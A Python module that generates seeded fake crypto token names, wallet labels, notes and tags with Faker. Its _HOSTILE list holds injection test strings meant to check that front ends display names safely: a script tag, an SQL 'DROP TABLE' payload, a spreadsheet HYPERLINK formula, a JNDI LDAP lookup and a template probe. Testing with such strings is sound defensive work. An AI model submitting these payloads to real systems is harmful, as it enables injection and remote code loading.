"""Names for the faked world, from Faker: a function of the number that asks, whatever was asked before."""

from __future__ import annotations

from collections.abc import Callable, Mapping

from faker.generator import Generator
from faker.providers.color.en_US import Provider as ColorProvider
from faker.providers.company.en_US import Provider as CompanyProvider
from faker.providers.lorem.en_US import Provider as LoremProvider
from faker.providers.person.en_US import Provider as PersonProvider

_TOKENS = (
    "{color} {word}",
    "{word} {word}",
    "Baby {first}",
    "{first} Inu",
    "{last} Coin",
    "Official {last}",
    "{word} of {last}",
    "Wrapped {word}",
    "{word} wif {word}",
)
_LABELS = (
    "{company}",
    "{first}'s launcher",
    "{first} {last}",
    "Treasury {word}",
    "Sniper {number:02}",
    "Cold storage {number:02}",
    "Market maker {number:02}",
    "{color} ops",
)
_TAGS = ("ops", "treasury", "launch", "market-making", "cold", "partner", "test", "vip")

_HOSTILE = (
    ("🚀🌕 To The Moon 🌕🚀", "🚀"),
    ("מטבע 3000 (ירח)", "ירח"),
    ("<script>alert('gm')</script>", "<b>XSS</b>"),
    ("Robert'); DROP TABLE wallets;--", "DROP"),
    ('=HYPERLINK("http://example.com";"claim")', "=1+1"),
    ("Z̷̢̛a̵l̶g̸o̵ ̶C̷o̵i̴n̷", "ZΛLGO"),
    ("عملة القمر", "قمر"),
    ("柴犬コイン", "柴犬"),
    ("W" * 64, "W" * 32),
    ("👩‍👩‍👧‍👦 Family 🏳️‍🌈", "👨‍💻"),
    ("https://example.com/claim-your-airdrop", "CLAIM NOW"),
    ("${jndi:ldap://example.com/a}", "{{7*7}}"),
)
"""What strangers call their tokens: a front end that shows these well shows everything."""


class FakeNames:
    """One Faker, seeded anew for every thing it names (a new Faker costs 15 ms, a new seed 5 µs)."""

    def __init__(self) -> None:
        self._faker = Generator()
        self._lorem = LoremProvider(self._faker)
        person = PersonProvider(self._faker)
        company = CompanyProvider(self._faker)
        for provider in (person, company):  # a company is often named after persons
            self._faker.add_provider(provider)
        self._makers: Mapping[str, Callable[[], str]] = {
            "color": ColorProvider(self._faker).color_name,
            "first": person.first_name,
            "last": person.last_name,
            "company": company.company,
        }

    def token(self, number: int) -> tuple[str, str]:
        """A token's name and ticker."""
        name = " ".join(word[:1].upper() + word[1:] for word in self._fill(_TOKENS, number).split())
        letters = "".join(letter for letter in name.upper() if "A" <= letter <= "Z")
        return name[:64], letters[: 3 + number % 4]

    @staticmethod
    def hostile_token(number: int) -> tuple[str, str]:
        """A name and ticker that break careless front ends."""
        return _HOSTILE[number % len(_HOSTILE)]

    def label(self, number: int) -> str:
        """What somebody calls a wallet."""
        label = self._fill(_LABELS, number)
        return label[:1].upper() + label[1:100]

    def note(self, number: int) -> str:
        """A remark of one or two sentences."""
        self._faker.seed_instance(number)
        return " ".join(self._lorem.sentence() for _ in range(1 + number % 2))

    def tags(self, number: int) -> tuple[str, ...]:
        """None to three distinct tags."""
        picks = (number // 4 // 8**pick % 8 for pick in range(number % 4))
        return tuple(dict.fromkeys(_TAGS[pick] for pick in picks))

    def _fill(self, patterns: tuple[str, ...], number: int) -> str:
        self._faker.seed_instance(number)
        pattern = patterns[number % len(patterns)]
        words = {field: make() for field, make in self._makers.items() if f"{{{field}}}" in pattern}
        while "{word}" in pattern:
            pattern = pattern.replace("{word}", self._lorem.word(), 1)
        return pattern.format(**words, number=number // len(patterns) % 100)
